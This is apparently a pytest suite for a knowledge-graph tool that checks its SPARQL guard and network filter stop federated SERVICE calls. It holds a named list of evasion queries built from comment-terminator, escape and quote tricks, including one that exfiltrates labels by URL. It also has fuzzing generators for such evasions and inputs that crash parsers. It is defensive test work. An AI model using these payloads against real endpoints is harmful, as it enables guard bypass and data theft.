"""The boundary, attacked: every way found to slip a SERVICE past a parser, through every local
path (CLI text, .rq file, Python API), with a real listener on loopback that must see nothing.

Every path runs its query in an engine process under the network filter (hcc_kg.answer.sandbox), so the
corpus is no longer refused by reading it: each attack either makes no call (Oxigraph does not
read a SERVICE in it) and is answered or refused as SPARQL, or makes one and its engine is
stopped. The control runs each attack in an engine without the filter (a test-only switch) on
the same listener: an attack that reaches it there must be refused as SERVICE with the filter.

The HTTP paths (GET, POST form, POST sparql-query, HEAD) are attacked in test_serve.py with the
same corpus. The word ban, which applies where the filter cannot be installed, is tested here on
its own (check_query in this process, which has no filter).
"""

from __future__ import annotations

import time

import loopback
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from hcc_kg.answer.guard import (
    MAX_QUERY,
    REFUSED,
    QueryTooLarge,
    RefusedQuery,
    check_query,
    readings,
)
from hcc_kg.cli import main
from hcc_kg.constants import RELEASE_NQ
from hcc_kg.errors import HccKgError

#: {url} is the listener. Each was found, or is a variant of one found, by attacking a guard that
#: parsed with rdflib while Oxigraph executed (issue 11: B1, B2, B3 and the exfiltration).
ATTACKS = {
    "plain": "SELECT * WHERE { SERVICE <{url}> { ?s ?p ?o } }",
    "mixed-case-prefixed": "PREFIX e: <{url}>\n# c\nSELECT * WHERE { ?a ?b ?c . sErViCe SILENT e:x { ?s ?p ?o } }",
    "nested": "SELECT * WHERE { { SELECT ?s WHERE { OPTIONAL { SERVICE <{url}> { ?s ?p ?o } } } } }",
    "in-exists": "ASK { FILTER EXISTS { SERVICE <{url}> { ?s ?p ?o } } }",
    "b1-cr-ends-comment": "SELECT * WHERE { #x\rSERVICE SILENT <{url}> { ?s ?p ?o } \n}",
    "b1-crlf": "SELECT * WHERE { #x\r\nSERVICE SILENT <{url}> { ?s ?p ?o } }",
    "b1-form-feed": "SELECT * WHERE { #x\fSERVICE SILENT <{url}> { ?s ?p ?o } \n}",
    "b1-line-separator": "SELECT * WHERE { #x\u2028SERVICE SILENT <{url}> { ?s ?p ?o } \n}",
    "b2-u0022": 'SELECT ?y WHERE { BIND("\\u0022 AS ?x) } #" AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "b2-u0027": "SELECT ?y WHERE { BIND('\\u0027 AS ?x) } #' AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }",
    "b2-triple-quoted": 'SELECT ?y WHERE { BIND("""\\u0022\\u0022\\u0022 AS ?x) } #""" AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "b2-ask": 'ASK { BIND("\\u0022 AS ?x) } #" AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "b2-construct": 'CONSTRUCT { ?s ?p ?o } WHERE { BIND("\\u0022 AS ?x) } #" AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "b2-eight-digits": 'SELECT ?y WHERE { BIND("\\u00000022 AS ?x) } #" AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "b3-row-cap": 'SELECT ?z WHERE { ?s ?p ?o BIND("\\u0022 AS ?z) } LIMIT 5 #" AS ?z) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "escaped-keyword-4": "SELECT * WHERE { \\u0053ERVICE SILENT <{url}> { ?s ?p ?o } }",
    "escaped-keyword-8": "SELECT * WHERE { \\U00000053ervice SILENT <{url}> { ?s ?p ?o } }",
    "escaped-keyword-u8": "SELECT * WHERE { \\u00000073ERVICE SILENT <{url}> { ?s ?p ?o } }",
    "escaped-twice": "SELECT * WHERE { \\u005Cu0053ERVICE SILENT <{url}> { ?s ?p ?o } }",
    "exfiltration": (
        'PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\nSELECT ?y WHERE { BIND("\\u0022 AS ?x) } #" AS ?y)\n'
        ' ?e rdfs:label ?l BIND(IRI(CONCAT("{url}exfil?label=", ENCODE_FOR_URI(?l))) AS ?u)'
        " SERVICE SILENT ?u { ?s ?p ?o } }"),
}


@pytest.fixture()
def listener():
    """A real TCP listener on loopback standing in for another machine (tests/loopback.py): it
    answers, so a query that reached it would succeed; records every connection."""
    with loopback.listener() as found:
        yield found


def attack(name: str, url: str) -> str:
    return ATTACKS[name].replace("{url}", url)


@pytest.fixture()
def on_release(built, monkeypatch):
    from hcc_kg.answer import store

    monkeypatch.setattr(store, "RELEASE", built[0])


_REACHES: dict[str, bool] = {}


def reaches(name: str, url: str, hits: list, release) -> bool:
    """The control: whether the attack, run in an engine WITHOUT the filter (the test-only
    ``network=True``), calls the listener. Asked after the filtered run has been checked."""
    from hcc_kg.answer.engine import run_local

    if name not in _REACHES:
        before = len(hits)
        try:
            run_local(attack(name, url), release_nq=release / RELEASE_NQ, network=True, timeout=20)
        except HccKgError:
            pass
        time.sleep(0.1)
        _REACHES[name] = len(hits) > before
        del hits[before:]
    return _REACHES[name]


def one_clean_line(result) -> None:
    """Exit 0, or exit 1 with one ``error:`` line; never a traceback."""
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code == 0 or result.exit_code == 1 and result.output.startswith("error: ") \
        and result.output.count("\n") == 1, result.output


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_through_cli_text_never_reaches_the_listener(name, listener, on_release, built):
    url, hits = listener
    result = CliRunner().invoke(main, ["query", attack(name, url)])
    time.sleep(0.1)
    assert hits == []
    one_clean_line(result)
    if reaches(name, url, hits, built[0]):
        assert result.exit_code == 1 and f"error: query: {REFUSED}: the query tried to open a network connection" \
            in result.output


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_through_rq_file_never_reaches_the_listener(name, listener, on_release, built, tmp_path):
    url, hits = listener
    path = tmp_path / "attack.rq"
    path.write_bytes(attack(name, url).encode())  # bytes as written: the CR stays a CR
    result = CliRunner().invoke(main, ["query", str(path)])
    time.sleep(0.1)
    assert hits == []
    one_clean_line(result)
    if reaches(name, url, hits, built[0]):
        assert result.exit_code == 1 and f"{path}: {REFUSED}" in result.output


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_through_python_api_never_reaches_the_listener(name, listener, on_release, built):
    import hcc_kg

    url, hits = listener
    outcome = None
    try:
        hcc_kg.query(attack(name, url))
    except HccKgError as err:
        outcome = err
    time.sleep(0.1)
    assert hits == []
    if reaches(name, url, hits, built[0]):
        assert isinstance(outcome, RefusedQuery) and REFUSED in str(outcome)


def test_the_control_reaches_the_listener(listener, built):
    """The control is real: without the filter (and so without any guard: the test-only switch)
    the same engine sends the plain SERVICE to the listener, and 13 of the 20 attacks (Oxigraph
    reads no SERVICE in the others, or, for ``SERVICE SILENT ?u``, has no endpoint yet); so a
    filtered run that sees no hit was stopped by the filter."""
    url, hits = listener
    assert reaches("plain", url, hits, built[0])
    reached = {name for name in ATTACKS if reaches(name, url, hits, built[0])}
    assert reached == {"b1-cr-ends-comment", "b1-crlf", "b2-ask", "b2-construct", "b2-eight-digits", "b2-triple-quoted",
                       "b2-u0022", "b2-u0027", "b3-row-cap", "in-exists", "mixed-case-prefixed", "nested", "plain"}


def test_store_run_in_an_unfiltered_process_keeps_the_word_ban(listener, store):
    """``hcc_kg.answer.store.run`` in a caller's own process (no filter there) refuses by the word ban;
    with ``allow_service`` it calls out: the ban is what stops it."""
    from hcc_kg.answer.store import run

    url, hits = listener
    with pytest.raises(RefusedQuery, match=r"SERVICE \(federated query\) is refused: it would make"):
        run(attack("plain", url), store)
    assert hits == []
    run(attack("plain", url).replace("SERVICE <", "SERVICE SILENT <"), store, allow_service=True)
    assert hits and hits[0].startswith(b"POST ")


#: what an engine might take as the end of a comment, a string delimiter, or a letter of the keyword
TERMINATORS = ["\n", "\r", "\r\n", "\f", "\v", "\x85", "\u2028", "\u2029"]
QUOTES = ['"', "'", '"""', "'''"]


def _letter(draw, ch: str) -> str:
    form = draw(st.sampled_from(["lower", "upper", "u4", "U8", "u8"]))
    code = ord(draw(st.sampled_from([ch.lower(), ch.upper()])))
    return {"lower": ch.lower(), "upper": ch.upper(), "u4": f"\\u{code:04X}", "U8": f"\\U{code:08X}",
            "u8": f"\\u{code:08x}"}[form]


@st.composite
def service_queries(draw) -> str:
    keyword = "".join(_letter(draw, ch) for ch in "service")
    quote = draw(st.sampled_from(QUOTES))
    escaped_quote = draw(st.sampled_from(["\\u0022", "\\u0027", "\\u00000022", "\\U00000027", '\\"']))
    prefix = draw(st.sampled_from([
        "", f"# c{draw(st.sampled_from(TERMINATORS))}",
        f"BIND({quote}{escaped_quote} AS ?x) }} #{quote} AS ?y) ",
        f"BIND({quote}x{quote} AS ?x) #{draw(st.sampled_from(TERMINATORS))}",
    ]))
    form = draw(st.sampled_from(["SELECT * WHERE {", "ASK {", "CONSTRUCT { ?s ?p ?o } WHERE {", "select ?y {"]))
    return f"{form} {prefix}{keyword} SILENT <{{url}}> {{ ?s ?p ?o }} }}"


@settings(max_examples=300, deadline=None)
@given(service_queries())
def test_generated_service_queries_are_refused_and_reach_nothing(template):
    """Comment terminators, escapes, quotes and case mixed into SERVICE queries: each is refused
    by the guard; a listener that would receive any federated call stays silent."""
    with pytest.raises(RefusedQuery, match=r"SERVICE \(federated query\) is refused"):
        check_query(template.replace("{url}", "http://127.0.0.1:9/"))


def test_the_word_anywhere_is_refused_with_the_reason():
    for text in ['SELECT * { ?s ?p "customer service" }', "SELECT * { <urn:service> ?p ?o }",
                 "ASK {} # no service here"]:
        with pytest.raises(RefusedQuery, match="in any case, anywhere"):
            check_query(text)


def test_plain_queries_pass():
    check_query("PREFIX s: <http://example.org/serv#>\nSELECT ?x WHERE { ?x a s:Drug }")
    check_query('SELECT * WHERE { ?s ?p "\\u00e9" }')


def test_readings_expand_every_escape_form():
    found = readings("\\u0041\\U00000042\\u00000043")
    assert "ABC" in found  # \u read with 8 digits, as rdflib does
    assert "A\\U00000042\x000043" in found  # \u read with 4 digits only, as the grammar says


def test_too_many_readings_are_refused_not_checked_in_part(monkeypatch):
    from hcc_kg.answer import guard

    monkeypatch.setattr(guard, "MAX_READINGS", 2)
    with pytest.raises(RefusedQuery, match="too many layers"):
        check_query("ASK { FILTER(\"\\u0041\\U00000042\\u00000043\") }")


def test_size_cap_on_every_path():
    with pytest.raises(QueryTooLarge, match=f"at most {MAX_QUERY} are accepted"):
        check_query("ASK {}" + " " * MAX_QUERY)


@pytest.mark.parametrize("text", [
    "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "DELETE WHERE { ?s ?p ?o }",
    "LOAD <http://127.0.0.1:9/x>",
    "CLEAR ALL",
    "PREFIX x: <urn:x>\nDROP GRAPH <urn:g>",
])
def test_updates_are_refused(text, store):
    from hcc_kg.answer.store import run

    with pytest.raises(RefusedQuery, match="updates .* are refused"):
        run(text, store)


def test_syntax_error_names_line_and_column(store):
    from hcc_kg.answer.store import run

    with pytest.raises(RefusedQuery, match=r"SPARQL syntax error at line 2, column \d+"):
        run("SELECT ?x\nWHERE { ?x ?y }", store)


#: texts that once gave a traceback (rdflib) or would kill the process (Oxigraph's recursion)
HOSTILE_TEXTS = {
    "bad-codepoint": 'ASK { FILTER("\\UFFFFFFFF") }',
    "surrogate": 'ASK { FILTER("\\uD800") }',
    "parens-20000": "ASK { FILTER(" + "(" * 20000 + "1" + ")" * 20000 + ") }",
    "braces-30000": "ASK " + "{" * 30000 + "}" * 30000,
    "not-60000": "ASK { FILTER(" + "!" * 60000 + "true) }",
    "100-patterns": "ASK { " + " ".join(f"?s <urn:p{i}> ?o{i} ." for i in range(100)) + " }",
    "nul": "ASK {\x00}",
    "lone-surrogate-text": "ASK { FILTER(\"\ud800\") }",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_TEXTS))
def test_no_query_text_gives_a_traceback_or_kills_the_process(name, on_release):
    result = CliRunner().invoke(main, ["query", HOSTILE_TEXTS[name]])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    assert result.exit_code in (0, 1)
    if result.exit_code == 1:
        assert result.output.startswith("error: ") and result.output.count("\n") == 1
